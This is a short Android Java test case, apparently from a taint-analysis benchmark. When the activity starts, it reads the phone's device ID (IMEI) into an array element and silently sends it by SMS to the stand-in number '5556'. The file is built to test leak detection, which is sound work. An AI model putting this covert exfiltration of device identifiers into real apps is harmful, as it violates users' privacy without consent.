package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** The element that is filled is sent. */
public class SameElement extends Case {
    static int next(int i) { return i + 1; }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        String[] a = new String[3];
        a[next(0)] = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        SmsManager.getDefault().sendTextMessage("5556", null, a[1], null, null);
    }
}
